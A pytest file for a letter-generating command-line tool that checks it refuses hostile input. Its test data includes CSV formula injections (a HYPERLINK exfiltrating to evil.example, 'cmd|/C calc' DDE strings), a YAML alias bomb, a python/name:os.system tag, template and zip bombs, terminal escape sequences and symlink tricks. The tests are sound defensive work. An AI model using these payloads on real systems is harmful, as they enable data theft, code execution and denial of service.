"""Hostile and broken input (issue 14): no traceback, no silent change, no lost file, no
injection. Each hostile input is written here by the test; bombs are generated."""

from __future__ import annotations

from pathlib import Path

import pytest
from conftest import ROOT

from ua_letters.cli import app

CASE = ROOT / "cases" / "ua-33.23.yaml"
ON = ["--date", "2023-07-01"]


def snapshot(*folders: Path) -> dict[Path, bytes]:
    """Every file under `folders` (links as links), to show nothing the user had changed."""
    files = {}
    for folder in folders:
        for path in sorted(folder.rglob("*")):
            if path.is_symlink():
                files[path] = b"-> " + str(path.readlink()).encode()
            elif path.is_file():
                files[path] = path.read_bytes()
    return files


def one_line_error(result, *words: str) -> str:
    """The run failed with exit 2 and one-line messages, no traceback, naming `words`."""
    assert result.exit_code == 2, result.output
    assert "Traceback" not in result.output
    assert result.exception is None or isinstance(result.exception, SystemExit), repr(
        result.exception)
    for word in words:
        assert word in result.stderr, result.stderr
    return result.stderr


# --- 1. YAML anchors and aliases ("billion laughs") ---------------------------------------

def alias_bomb(levels: int = 9) -> str:
    """Each level lists the previous one nine times: 9**levels strings from a few hundred
    bytes."""
    lines = ['l0: &l0 ["lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol"]']
    for i in range(1, levels):
        lines.append(f"l{i}: &l{i} [{', '.join([f'*l{i - 1}'] * 9)}]")
    return "\n".join(lines) + "\n"


def test_an_alias_bomb_in_a_case_file_is_refused_at_its_line(runner, in_tmp):
    cases = in_tmp / "cases"
    cases.mkdir()
    (cases / "ua-1.23.yaml").write_text('ua: "1.23"\n' + alias_bomb(), encoding="utf-8")
    before = snapshot(in_tmp)
    listed = runner.invoke(app, ["cases"])
    assert listed.exit_code == 0, listed.output
    assert "33.23" in listed.stdout
    assert "ua-1.23.yaml:2: YAML anchor or alias '&l0' is not allowed" in listed.stderr
    one_line_error(runner.invoke(app, ["show", "1.23"]), "ua-1.23.yaml:2: YAML anchor")
    one_line_error(runner.invoke(app, ["show", "9.99"]), "unknown case '9.99'")
    one_line_error(runner.invoke(app, ["validate", "cases"]), "ua-1.23.yaml:2:")
    assert snapshot(in_tmp) == before


def test_an_alias_in_the_profile_is_refused_at_its_line(runner, in_tmp, isolated_home):
    file = isolated_home / ".config" / "ua-letters" / "profile.yaml"
    file.parent.mkdir(parents=True)
    file.write_text("name: &n Jane\ncity: *n\n" + alias_bomb(), encoding="utf-8")
    before = snapshot(isolated_home, in_tmp)
    result = runner.invoke(app, ["generate", "33.23", "--to", "ma-xingrui"])
    one_line_error(result, "profile.yaml:1: YAML anchor or alias '&n' is not allowed")
    assert snapshot(isolated_home, in_tmp) == before


def test_deep_nesting_is_refused_not_a_recursion_error(runner, in_tmp):
    (in_tmp / "deep.yaml").write_text("ua: " + "[" * 5000 + "]" * 5000 + "\n")
    one_line_error(runner.invoke(app, ["validate", "deep.yaml"]), "deep.yaml:1: invalid YAML")


# --- 2. formula injection in manifest.csv -------------------------------------------------

FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"Click")', "+cmd|' /C calc'!A0",
            "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0"]


def write_roster(path: Path, names: list[str], emails: bool = True) -> Path:
    import csv

    with path.open("w", encoding="utf-8", newline="") as handle:
        table = csv.writer(handle)
        table.writerow(["name", "city", "email"])
        for i, name in enumerate(names):
            table.writerow([name, "Oxford", f"w{i}@example.org" if emails else ""])
    return path


def test_manifest_cells_never_start_a_formula(runner, in_tmp):
    import csv

    roster = write_roster(in_tmp / "list.csv", FORMULAS)
    result = runner.invoke(app, ["batch", "33.23", str(roster), "-o", "out", "--separate",
                                 "--to", "qin-gang", "-q", *ON])
    assert result.exit_code == 0, result.output
    text = (in_tmp / "out" / "manifest.csv").read_text(encoding="utf-8-sig")
    rows = list(csv.reader(text.splitlines()))[1:]
    assert len(rows) == 2 * len(FORMULAS)
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), row
    writers = [row[1] for row in rows if row[4] == "post"]
    assert writers == ["'" + name for name in FORMULAS]  # readable: the value follows the '
    files = [row[5] for row in rows]
    assert all((in_tmp / "out" / name.removeprefix("'")).is_file() for name in files)


# --- 3. participants silently changed ------------------------------------------------------

def batch_run(runner, roster: Path, *extra: str):
    return runner.invoke(app, ["batch", "33.23", str(roster), "-o", "out", "--to", "qin-gang",
                               "-q", "--no-email", *extra, *ON])


def test_in_a_short_list_too_a_stray_byte_spoils_its_row_only(runner, in_tmp):
    raw = "name\nZoë One\n".encode() + "Jos\xe9 Two\n".encode("cp1252")
    (in_tmp / "list.csv").write_bytes(raw)
    result = batch_run(runner, in_tmp / "list.csv")
    assert result.exit_code == 3 and "row 3: name: byte 0xE9 is not UTF-8" in result.stderr
    import docx

    text = "\n".join(p.text for p in docx.Document(str(in_tmp / "out" / "letters.docx"))
                     .paragraphs)
    assert "Zoë One" in text and "Ã" not in text


def test_one_stray_cp1252_byte_spoils_one_named_row_not_the_file(runner, in_tmp):
    rows = ["name,city", "José Álvarez,Oxford", "张伟,Oxford", "Zoë Brontë,Oxford"]
    raw = "\n".join(rows).encode("utf-8") + "\nRen\xe9e Smith,Oxford\n".encode("cp1252")
    (in_tmp / "list.csv").write_bytes(raw)
    before = snapshot(in_tmp)
    result = batch_run(runner, in_tmp / "list.csv")
    assert result.exit_code == 3, result.output
    assert ("list.csv row 5: name: byte 0xE9 is not UTF-8 like the rest of the file "
            "(in Windows-1252 it would be 'é')") in result.stderr
    import docx

    text = "\n".join(p.text for p in docx.Document(str(in_tmp / "out" / "letters.docx"))
                     .paragraphs)
    for name in ("José Álvarez", "张伟", "Zoë Brontë"):
        assert name in text
    assert "Ã" not in text and "å¼" not in text and "Ren" not in text
    assert {p: b for p, b in snapshot(in_tmp).items() if "out" not in p.parts} == before


def test_a_quote_that_swallows_rows_is_reported_where_it_starts(runner, in_tmp):
    (in_tmp / "list.csv").write_text(
        'name,city\nAda,Leeds\n"Carol,Hull\nDan,Bath\nEve,Derby\nFay,Ely\n', encoding="utf-8")
    before = snapshot(in_tmp)
    one_line_error(batch_run(runner, in_tmp / "list.csv"),
                   'list.csv:3: a quote (") opens in row 3 and runs on to line 6')
    assert snapshot(in_tmp) == before and not (in_tmp / "out").exists()


def test_balanced_quotes_that_still_swallow_rows_are_reported(runner, in_tmp):
    (in_tmp / "list.csv").write_text(
        'name,city,email\nAda,Leeds,\n"Carol,Hull,\nDan,Bath,\n"Eve,Derby,\n', encoding="utf-8")
    one_line_error(batch_run(runner, in_tmp / "list.csv"), "list.csv:3: a quote")


def test_an_address_on_two_lines_is_still_one_cell(runner, in_tmp):
    (in_tmp / "list.csv").write_text(
        'name,address,city\nAda,"Flat 2, 12 Lane\nJericho",Oxford\n', encoding="utf-8")
    result = batch_run(runner, in_tmp / "list.csv")
    assert result.exit_code == 0, result.output


# --- 4. two batches into one folder at once --------------------------------------------------

def cli_process(*args: str, cwd: Path):
    """A real `ua-letter` process (the environment, HOME included, is the test's)."""
    import subprocess
    import sys

    return subprocess.Popen([sys.executable, "-m", "ua_letters", *args], cwd=cwd,
                            stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)


def test_two_batches_at_once_one_refuses_and_nothing_is_lost(in_tmp):
    roster = write_roster(in_tmp / "list.csv", ["Ann Lee", "Bo Chen"])
    args = ["batch", "33.23", str(roster), "-o", "out", "-q", *ON]
    runs = [cli_process(*args, cwd=in_tmp) for _ in range(2)]
    outcomes = [(run.wait(timeout=120), run.stderr.read()) for run in runs]
    codes = sorted(code for code, _ in outcomes)
    assert codes == [0, 2], outcomes
    refusal = next(err for code, err in outcomes if code == 2)
    assert ("already exists" in refusal or "being written by another ua-letter run"
            in refusal) and "Traceback" not in refusal
    out = in_tmp / "out"
    import csv

    with (out / "manifest.csv").open(encoding="utf-8-sig") as handle:
        listed = {row["file"] for row in csv.DictReader(handle)}
    present = {str(p.relative_to(out)) for p in out.rglob("*") if p.is_file()}
    assert present == listed | {"manifest.csv"}  # no lock, no temporary, nothing missing


def test_a_folder_claimed_by_a_live_run_is_refused_and_a_dead_runs_claim_is_not(
        runner, in_tmp):
    import subprocess
    import sys

    (in_tmp / "out").mkdir()
    (in_tmp / "out" / "mine.txt").write_text("the organiser's own notes")
    roster = write_roster(in_tmp / "list.csv", ["Ann Lee"])
    holder = subprocess.Popen(
        [sys.executable, "-c", "import sys, time\nfrom pathlib import Path\n"
         "from ua_letters.batch.output import OutputFolder\n"
         "with OutputFolder(Path('out')):\n    print('ready', flush=True)\n    time.sleep(60)\n"],
        cwd=in_tmp, stdout=subprocess.PIPE, text=True)
    try:
        assert holder.stdout.readline().strip() == "ready"
        before = snapshot(in_tmp)
        result = batch_run(runner, roster)
        one_line_error(result, f"is being written by another ua-letter run (process "
                               f"{holder.pid}); wait for it to finish")
        assert snapshot(in_tmp) == before
    finally:
        holder.kill()  # as kill -9: its lock stays behind
        holder.wait()
    assert (in_tmp / "out" / ".ua-letter.lock").exists()
    result = batch_run(runner, roster)
    assert result.exit_code == 0, result.output
    assert not (in_tmp / "out" / ".ua-letter.lock").exists()
    assert (in_tmp / "out" / "mine.txt").read_text() == "the organiser's own notes"


# --- 5. every file's bytes before the first write -------------------------------------------

def case_with_target_email(folder: Path, email: str) -> Path:
    folder.mkdir(exist_ok=True)
    text = CASE.read_text(encoding="utf-8").replace("chinaembpress_us@mfa.gov.cn", email)
    assert email in text
    path = folder / "ua-33.23.yaml"
    path.write_text(text, encoding="utf-8")
    return path


def test_an_email_no_header_can_hold_is_a_clean_error_and_nothing_is_written(runner, in_tmp):
    """Refused where it is written, the case file's line, before any letter or file."""
    case_with_target_email(in_tmp / "cases", "one@[127.0.0.1].x")
    (in_tmp / "out").mkdir()
    (in_tmp / "out" / "mine.txt").write_text("kept")
    roster = write_roster(in_tmp / "list.csv", ["Ann Lee", "Bo Chen"])
    before = snapshot(in_tmp)
    where = "ua-33.23.yaml:"
    checked = runner.invoke(app, ["validate", "cases"])
    one_line_error(checked, where, "'one@[127.0.0.1].x' is not an email address")
    eml = runner.invoke(app, ["generate", "33.23", "--to", "qin-gang", "-o", "x.eml", *ON])
    one_line_error(eml, where, "'one@[127.0.0.1].x'")
    result = runner.invoke(app, ["batch", "33.23", str(roster), "-o", "out", "-q", *ON])
    one_line_error(result, where, "'one@[127.0.0.1].x'")
    fresh = runner.invoke(app, ["batch", "33.23", str(roster), "-o", "new/out", "-q", *ON])
    one_line_error(fresh, "'one@[127.0.0.1].x'")
    assert snapshot(in_tmp) == before  # no letters.docx, no empty email/, no new folder
    assert sorted(p.name for p in in_tmp.iterdir()) == ["cases", "list.csv", "out"]


def test_an_address_the_email_package_refuses_is_a_clean_error():
    """The last guard, in the exporter: an address no header can hold names the target."""
    from ua_letters.errors import UserError
    from ua_letters.exporters.mail import message
    from ua_letters.letters.letter import Block, Letter, Writer

    letter = Letter("33.23", "qin-gang", "en", "t", "s", (Block("paragraph", ("Hi.",)),),
                    Writer(name="Ann"), to=("a b@[x",))
    with pytest.raises(UserError, match="target qin-gang: email 'a b@\\[x' cannot be written"):
        message(letter)


def test_a_folder_nobody_can_write_to_fails_before_any_work(runner, in_tmp):
    roster = write_roster(in_tmp / "list.csv", ["Ann Lee"])
    for place in ("/sys/ua-letters-out", "/proc/ua-letters-out", "list.csv/out"):
        result = runner.invoke(app, ["batch", "33.23", str(roster), "-o", place, "-q", *ON])
        one_line_error(result, f"-o {place}: ")
        eml = runner.invoke(app, ["generate", "33.23", "--to", "qin-gang", "-o",
                                  f"{place}/x.eml", *ON])
        one_line_error(eml, f"-o {place}/x.eml: ")


# --- 10. interrupts -------------------------------------------------------------------------

def dead_pid() -> int:
    """The pid of a process that has ended."""
    import subprocess
    import sys

    process = subprocess.Popen([sys.executable, "-c", "pass"])
    process.wait()
    return process.pid


def wait_for(condition, seconds: float = 60) -> bool:
    import time

    end = time.monotonic() + seconds
    while time.monotonic() < end:
        if condition():
            return True
        time.sleep(0.005)
    return False


def test_ctrl_c_while_writing_says_so_and_leaves_the_folder_as_it_was(in_tmp):
    import signal

    out = in_tmp / "out"
    out.mkdir()
    (out / "mine.txt").write_text("kept")
    roster = write_roster(in_tmp / "list.csv", [f"Writer {i}" for i in range(150)])
    before = snapshot(in_tmp)
    run = cli_process("batch", "33.23", str(roster), "-o", "out", "-q", "--separate", *ON,
                      cwd=in_tmp)
    assert wait_for(lambda: (out / ".ua-letter.lock").exists() or run.poll() is not None)
    run.send_signal(signal.SIGINT)
    code, stderr = run.wait(timeout=60), run.stderr.read()
    if code == 0:
        pytest.skip("the batch finished before the interrupt arrived")
    assert code == 130, stderr
    assert "ua-letter: interrupted: nothing written in out; run again" in stderr
    assert "Traceback" not in stderr
    assert snapshot(in_tmp) == before
    assert sorted(p.name for p in out.rglob("*")) == ["mine.txt"]  # no temporary, no lock


def test_ctrl_c_before_writing_says_nothing_was_written(in_tmp):
    import signal

    roster = write_roster(in_tmp / "list.csv", [f"Writer {i}" for i in range(5000)])
    run = cli_process("batch", "33.23", str(roster), "-o", "out", "-q", *ON, cwd=in_tmp)
    import time

    time.sleep(2.0)  # past start-up, well into rendering 10,000 letters
    run.send_signal(signal.SIGINT)
    code, stderr = run.wait(timeout=60), run.stderr.read()
    if code == 0:
        pytest.skip("the batch finished before the interrupt arrived")
    assert code == 130 and "Traceback" not in stderr, stderr
    assert "interrupted" in stderr and "nothing written in out" in stderr
    assert not (in_tmp / "out").exists()


def test_a_later_run_removes_temporaries_a_killed_run_left(runner, in_tmp):
    pid = dead_pid()
    out = in_tmp / "out"
    (out / "email").mkdir(parents=True)
    stale = [out / f".letters.docx.{pid}.0badc0de.part",
             out / "email" / f".Ann Lee - qin-gang.eml.{pid}.12345678.part",
             in_tmp / f".letter.txt.{pid}.abcdef01.part"]
    alive = out / f".letters.docx.{__import__('os').getpid()}.0badc0de.part"  # a live run's
    others = out / ".mine.part"  # not ours
    for path in [*stale, alive, others]:
        path.write_bytes(b"half a file")
    roster = write_roster(in_tmp / "list.csv", ["Ann Lee"])
    result = runner.invoke(app, ["batch", "33.23", str(roster), "-o", "out", "-q",
                                 "--to", "qin-gang", *ON])
    assert result.exit_code == 0, result.output
    text = runner.invoke(app, ["generate", "33.23", "--to", "qin-gang", "-o", "letter.txt",
                               *ON])
    assert text.exit_code == 0, text.output
    assert not any(path.exists() for path in stale)
    assert alive.exists() and others.exists()


# --- 6. template limits -----------------------------------------------------------------------

TEMPLATE_BOMBS = [
    ("{{ 'x'.center(3*10**9) }}", "the number 3000000000 is too large for a letter"),
    ("{{ '{:>3000000000}'.format('x') }}", "the width 3000000000 is too large"),
    ("{{ '%3000000000s' % 'x' }}", "the width 3000000000 is too large"),
    ("{{ 'x'|center(3000000000) }}", "the number 3000000000 is too large"),
    ("{{ lipsum(n=10**8) }}", "too large"),
    ("{{ lipsum(n=200000) }}", "lipsum: at most 20 paragraphs"),
    ("{% set s = 'x' * 200000 %}{{ s.replace('x', s) }}", "40000000000 characters long"),
    ("{% set s = 'x' * 200000 %}{{ s|join(s) }}", "40000000000 characters long"),
    ("{% for i in range(100000) %}{% for j in range(100000) %}{% endfor %}{% endfor %}",
     "it ran for more than 1 s; check its loops"),
    ("{% set s = 'x' * 200000 %}{% for a in s %}{% for b in s %}{% endfor %}{% endfor %}",
     "it ran for more than 1 s; check its loops"),
    ("{% macro m(n) %}{% if n %}{{ m(n - 1) }}{{ m(n - 1) }}{% endif %}{% endmacro %}"
     "{{ m(60) }}", "it ran for more than 1 s"),
    ("{% set ns = namespace(s='x' * 150000) %}{% for i in range(40) %}"
     "{% set ns.s = ns.s ~ ns.s %}{% endfor %}", "300000 characters long"),
    ("{% set a = 'x' * 150000 %}{% set b = a ~ a %}{% set c = b ~ b %}{{ c }}",
     "300000 characters long"),
]


@pytest.mark.parametrize(("code", "message"), TEMPLATE_BOMBS)
def test_a_template_cannot_take_unbounded_memory_or_time(runner, in_tmp, monkeypatch,
                                                         code, message):
    from ua_letters.letters import limits

    monkeypatch.setattr(limits, "MAX_SECONDS", 1.0)  # the limit is 5 s; a test need not wait
    folder = in_tmp / "mine"
    folder.mkdir()
    (folder / "letter.en.j2").write_text(
        '{{ block("paragraph") }}\nDear {{ target.name }},\n' + code + "\n", encoding="utf-8")
    before = snapshot(in_tmp)
    result = runner.invoke(app, ["generate", "33.23", "--to", "ma-xingrui", "--template-dir",
                                 str(folder), *ON])
    line = one_line_error(result, f"{folder / 'letter.en.j2'}:3: ", message)
    assert len(line.strip().splitlines()) == 1 and result.stdout == ""
    assert snapshot(in_tmp) == before


def test_loops_and_formats_a_letter_needs_still_work(runner, in_tmp):
    folder = in_tmp / "mine"
    folder.mkdir()
    (folder / "letter.en.j2").write_text(
        '{{ block("paragraph") }}\n'
        "{% for i in [1, 2, 3] if i > 1 %}{{ i }}/{{ loop.length }} {% endfor %}"
        "{% for k, v in {'a': 1}.items() %}{{ k }}={{ v }} {% endfor %}"
        "{{ '{:>4}'.format('b') }} {{ '%3s'|format('c') }} {{ [1, 2]|join(', ') }}\n",
        encoding="utf-8")
    result = runner.invoke(app, ["generate", "33.23", "--to", "ma-xingrui", "--template-dir",
                                 str(folder), *ON])
    assert result.exit_code == 0, result.output
    assert result.stdout.strip() == "2/2 3/2 a=1    b   c 1, 2"


# --- 7. control and format characters in case text ---------------------------------------------

def case_with(folder: Path, old: str, new: str, name: str = "ua-33.23.yaml") -> Path:
    """The shipped case with one piece of text replaced (YAML escapes allowed in `new`)."""
    folder.mkdir(exist_ok=True)
    text = CASE.read_text(encoding="utf-8")
    assert old in text
    path = folder / name
    path.write_text(text.replace(old, new, 1), encoding="utf-8")
    return path


def line_of(path: Path, needle: str) -> int:
    return next(i for i, line in enumerate(path.read_text(encoding="utf-8").splitlines(), 1)
                if needle in line)


@pytest.mark.parametrize(("escape", "code"), [
    ("\\x1esender 0 left\\nInjected sender line", "U+001E"),
    ("\\e]0;PWNED\\a", "U+001B"),
    ("\\x01", "U+0001"),
    ("\\u202eevil", "U+202E"),
])
def test_control_characters_in_case_text_are_refused_at_their_line(runner, in_tmp, escape,
                                                                   code):
    path = case_with(in_tmp / "cases", "title:\n", f'title:\n  fr: "Titre{escape}"\n')
    line = line_of(path, "Titre")
    before = snapshot(in_tmp)
    for args in (["validate", "cases"], ["show", "33.23"],
                 ["generate", "33.23", "--to", "ma-xingrui", *ON]):
        result = runner.invoke(app, args)
        one_line_error(result, f"ua-33.23.yaml:{line}: title.fr: contains the", code)
        assert "\x1b" not in result.output and "\x1e" not in result.output
    listed = runner.invoke(app, ["cases"])
    assert f"ua-33.23.yaml:{line}: title.fr: contains the" in listed.stderr
    assert snapshot(in_tmp) == before


def test_text_that_needs_invisible_joiners_is_accepted(runner, in_tmp):
    case_with(in_tmp / "cases", "title:\n", 'title:\n  fa: "می\\u200cخواهم"\n')
    assert runner.invoke(app, ["validate", "cases"]).exit_code == 0


def test_no_escape_sequence_reaches_the_terminal(runner, in_tmp):
    folder = in_tmp / "cases"
    folder.mkdir()
    (folder / "ua-1.1.\x1b]0;PWNED\x07.yaml").write_text("ua: [\n", encoding="utf-8")
    for args in (["cases"], ["validate", "cases"], ["show", "1.1"]):
        result = runner.invoke(app, args)
        assert "\x1b" not in result.output and "\x07" not in result.output, args
        if args[0] != "show":  # show finds no case 1.1: its file is broken
            assert "\\x1b]0;PWNED\\x07" in result.stderr


# --- 8. one UA number in two files ------------------------------------------------------------

def test_a_ua_number_in_two_files_is_one_case_everywhere_and_both_are_named(runner, in_tmp):
    folder = in_tmp / "cases"
    case_with(folder, 'ua: "33.23"', 'ua: "90.98"', name="a-first.yaml")
    case_with(folder, 'ua: "33.23"', 'ua: "UA 90/98"', name="ua-90.98.yaml")
    second = folder / "ua-90.98.yaml"
    second.write_text(second.read_text(encoding="utf-8").replace(
        "Uyghur student", "Second file's student"), encoding="utf-8")
    before = snapshot(in_tmp)
    listed = runner.invoke(app, ["cases"])
    assert listed.exit_code == 0 and listed.stdout.count("\n90.98") == 1
    assert (f"{second}: UA 90.98 is also in {folder / 'a-first.yaml'}, which is used; keep "
            "one file per UA") in listed.stderr
    shown = runner.invoke(app, ["show", "90.98"])
    assert shown.exit_code == 0 and "a-first.yaml" in shown.stdout
    assert "Second file's" not in shown.stdout
    letter = runner.invoke(app, ["generate", "90.98", "--to", "ma-xingrui", *ON])
    assert letter.exit_code == 0 and "Second file's" not in letter.stdout
    one_line_error(runner.invoke(app, ["validate", "cases"]),
                   "cases/ua-90.98.yaml: UA 90.98 is also in cases/a-first.yaml")
    assert snapshot(in_tmp) == before


# --- 9. unbounded participant lists ------------------------------------------------------------

def csv_rows(count: int, width: int = 2, cell: str = "x") -> str:
    header = ",".join(["name", *(f"c{i}" for i in range(1, width))])
    row = ",".join([cell] * width)
    return header + "\n" + "\n".join(f"Writer {i}{row[1:]}" for i in range(count)) + "\n"


@pytest.mark.parametrize(("content", "message"), [
    (lambda: "name\n" + "Writer,".ljust(21_000_000, "x") + "\n", "21 MB, more than a participant"),
    (lambda: csv_rows(10_001), "more than 10,000 rows below the header"),
    (lambda: csv_rows(3, width=201), "201 columns, more than a participant list needs (200)"),
    (lambda: "name,note\nAnn," + "y" * 10_001 + "\n", "row 2, column 2: a cell of 10,001 "
                                                       "characters"),
])
def test_a_participant_list_past_any_real_size_is_refused_at_once(runner, in_tmp, content,
                                                                  message):
    (in_tmp / "list.csv").write_text(content(), encoding="utf-8")
    before = snapshot(in_tmp)
    one_line_error(batch_run(runner, in_tmp / "list.csv"), message)
    assert snapshot(in_tmp) == before


def test_a_workbook_zip_bomb_is_refused_before_reading(runner, in_tmp):
    import zipfile

    bomb = in_tmp / "list.xlsx"
    row = b'<row><c t="inlineStr"><is><t>Writer</t></is></c></row>' * 20_000  # ~1 MB
    with zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        with archive.open("xl/worksheets/sheet1.xml", "w") as sheet:
            for _ in range(210):
                sheet.write(row)
    assert bomb.stat().st_size < 3_000_000
    before = snapshot(in_tmp)
    one_line_error(batch_run(runner, bomb), "list.xlsx: the workbook unpacks to ",
                   "more than a participant list needs (200 MB)")
    assert snapshot(in_tmp) == before


def test_a_workbook_with_too_many_rows_stops_at_the_limit(runner, in_tmp):
    from openpyxl import Workbook

    book = Workbook(write_only=True)
    sheet = book.create_sheet()
    sheet.append(["name"])
    for i in range(10_050):
        sheet.append([f"Writer {i}"])
    book.save(in_tmp / "list.xlsx")
    one_line_error(batch_run(runner, in_tmp / "list.xlsx"), "more than 10,000 rows")


# --- 11. messages that say what is wrong, where, and how to fix it ----------------------------

def test_binary_data_as_a_csv_says_so(runner, in_tmp):
    import random

    noise = random.Random(14).randbytes(5000)
    (in_tmp / "list.csv").write_bytes(noise)
    one_line_error(batch_run(runner, in_tmp / "list.csv"), "list.csv: holds binary data, not "
                   "text; export the participant list from your spreadsheet as CSV")
    (in_tmp / "book.csv").write_bytes(b"PK\x03\x04" + noise)
    one_line_error(batch_run(runner, in_tmp / "book.csv"), "book.csv: this is a zip file, most "
                   "likely an Excel workbook with a .csv name; rename it to book.xlsx")


@pytest.mark.parametrize("encoding", ["utf-16-le", "utf-16-be"])
def test_utf16_without_a_byte_order_mark_is_read_as_utf16(runner, in_tmp, encoding):
    (in_tmp / "list.csv").write_bytes("name,city\nJosé Núñez,Oxford\n".encode(encoding))
    result = batch_run(runner, in_tmp / "list.csv")
    assert result.exit_code == 0, result.output
    import docx

    text = "\n".join(p.text for p in docx.Document(str(in_tmp / "out" / "letters.docx"))
                     .paragraphs)
    assert "José Núñez" in text


def test_a_huge_case_file_or_text_is_named_not_blamed_on_the_template(runner, in_tmp):
    folder = in_tmp / "cases"
    path = case_with(folder, "title:\n", "title:\n  fr: " + "x" * 30_000 + "\n")
    one_line_error(runner.invoke(app, ["show", "33.23"]),
                   f"ua-33.23.yaml:{line_of(path, 'fr: x')}: title.fr: a text of 30,000 "
                   "characters, more than any letter can carry (20,000); shorten it")
    path.write_text("ua: '33.23'\nnote: " + "y" * 1_100_000 + "\n", encoding="utf-8")
    one_line_error(runner.invoke(app, ["validate", "cases"]),
                   "ua-33.23.yaml: 1.1 MB, far more than a case file or profile holds")


def test_profile_values_are_checked_where_they_are_given(runner, in_tmp, isolated_home):
    result = runner.invoke(app, ["profile", "set", "name", "Jane\r\nDoe"])
    one_line_error(result, "profile set name: give it on one line, without line breaks")
    file = isolated_home / ".config" / "ua-letters" / "profile.yaml"
    file.parent.mkdir(parents=True, exist_ok=True)
    file.write_text('name: "Jane\\nDoe"\ncity: !!python/name:os.system x\n', encoding="utf-8")
    before = snapshot(isolated_home)
    tagged = runner.invoke(app, ["generate", "33.23", "--to", "ma-xingrui", *ON])
    message = one_line_error(tagged, "profile.yaml:2: invalid YAML: tag")
    assert "case files" not in message and "is not allowed here; remove it" in message
    assert snapshot(isolated_home) == before
    file.write_text('name: "Jane\\nDoe"\n', encoding="utf-8")
    broken = runner.invoke(app, ["generate", "33.23", "--to", "ma-xingrui", *ON])
    message = one_line_error(broken, "profile.yaml:1: name: give it on one line")
    assert "--name" not in message
    file.write_text("name: Jane\naddress: " + "x" * 10_000 + "\n", encoding="utf-8")
    big = runner.invoke(app, ["generate", "33.23", "--to", "ma-xingrui", *ON])
    one_line_error(big, "profile.yaml:2: address: 10,000 characters, more than 300")


def test_a_200_line_address_is_named_as_the_problem(runner, in_tmp):
    address = "\n".join(f"line {i}" for i in range(200))
    result = runner.invoke(app, ["generate", "33.23", "--to", "ma-xingrui", "--name", "Jo",
                                 "--address", address, *ON])
    message = one_line_error(result, "--address: 200 lines, more than an address needs (8)")
    assert "note" not in message
    (in_tmp / "list.csv").write_text(f'name,address\nJo,"{address}"\nAl,1 Lane\n',
                                     encoding="utf-8")
    listed = batch_run(runner, in_tmp / "list.csv")
    assert listed.exit_code == 3 and "row 2: address: 200 lines" in listed.stderr


def test_a_formula_without_a_saved_result_is_named(runner, in_tmp):
    from openpyxl import Workbook

    book = Workbook()
    sheet = book.active
    sheet.append(["first", "last", "name"])
    sheet.append(["Ann", "Lee", '=A2&" "&B2'])  # openpyxl stores no result, as some exporters
    sheet.append(["Bo", "Chen", "Bo Chen"])
    book.save(in_tmp / "list.xlsx")
    result = batch_run(runner, in_tmp / "list.xlsx")
    assert result.exit_code == 3, result.output
    assert ('list.xlsx row 2: name: the cell holds the formula =A2&" "&B2 but the file keeps '
            "no result for it; open the workbook in your spreadsheet program and save it "
            "again") in result.stderr
    assert "missing" not in result.stderr


# --- 12. links and a damaged template cache ---------------------------------------------------

def test_no_file_is_written_through_a_link_in_the_output_folder(runner, in_tmp):
    outside = in_tmp / "outside"
    outside.mkdir()
    (outside / "victim.csv").write_text("precious")
    out = in_tmp / "out"
    out.mkdir()
    (out / "email").symlink_to(outside, target_is_directory=True)
    roster = write_roster(in_tmp / "list.csv", ["Ann Lee"])
    before = snapshot(in_tmp)
    result = runner.invoke(app, ["batch", "33.23", str(roster), "-o", "out", "-q", *ON])
    one_line_error(result, "out/email is a symbolic link; ua-letter writes no file through "
                           "a link")
    (out / "email").unlink()
    (out / "manifest.csv").symlink_to(outside / "victim.csv")
    forced = runner.invoke(app, ["batch", "33.23", str(roster), "-o", "out", "-q", "--force",
                                 *ON])
    one_line_error(forced, "out/manifest.csv is a symbolic link")
    (in_tmp / "letter.txt").symlink_to(outside / "victim.csv")
    single = runner.invoke(app, ["generate", "33.23", "--to", "qin-gang", "-o", "letter.txt",
                                 "--force", *ON])
    one_line_error(single, "letter.txt is a symbolic link")
    assert (outside / "victim.csv").read_text() == "precious"
    assert sorted(outside.iterdir()) == [outside / "victim.csv"]
    assert {p: b for p, b in snapshot(in_tmp).items() if p.name not in ("manifest.csv",
                                                                        "letter.txt")} == {
        p: b for p, b in before.items() if p.name != "email"}


def test_a_template_cannot_include_a_file_outside_its_folder_through_a_link(runner, in_tmp):
    secret = in_tmp / "secret.txt"
    secret.write_text("PRIVATE KEY")
    folder = in_tmp / "mine"
    folder.mkdir()
    (folder / "part.j2").symlink_to(secret)
    (folder / "letter.en.j2").write_text('{{ block("paragraph") }}\n{% include "part.j2" %}\n')
    result = runner.invoke(app, ["generate", "33.23", "--to", "ma-xingrui", "--template-dir",
                                 str(folder), *ON])
    one_line_error(result, f"{folder / 'part.j2'} is a link to {secret}, outside the template "
                           "folder")
    assert "PRIVATE KEY" not in result.output


def test_a_truncated_template_cache_entry_is_rebuilt(in_tmp, isolated_home):
    args = ["generate", "33.23", "--to", "ma-xingrui", "--name", "Jo", *ON]

    def letter() -> str:  # a fresh process: nothing compiled in memory
        run = cli_process(*args, cwd=in_tmp)
        out, err = run.communicate(timeout=120)
        assert run.returncode == 0 and "Traceback" not in err, err
        return out

    first = letter()
    entries = list((isolated_home / ".cache").rglob("*.cache"))
    assert entries
    from jinja2.bccache import bc_magic

    cut = len(bc_magic) + 5  # the header whole, the checksum's pickle cut short
    for entry in entries:
        entry.write_bytes(entry.read_bytes()[:cut])  # a run killed while writing it
    assert letter() == first
    assert all(entry.stat().st_size > cut for entry in entries)  # written afresh


@pytest.mark.parametrize("broken", ["", "- a list\n", "ua: [\n", "ua: '33.23'\n".encode("utf-16")])
def test_a_broken_case_file_is_reported_not_silently_replaced_by_another(runner, in_tmp,
                                                                       broken):
    (in_tmp / "cases").mkdir()
    path = in_tmp / "cases" / "ua-33.23.yaml"
    (path.write_bytes if isinstance(broken, bytes) else path.write_text)(broken)
    for args in (["show", "33.23"], ["generate", "33.23", "--to", "qin-gang", *ON]):
        one_line_error(runner.invoke(app, args), "ua-33.23.yaml")
    listed = runner.invoke(app, ["cases"])
    assert "33.23" not in listed.stdout and "ua-33.23.yaml" in listed.stderr


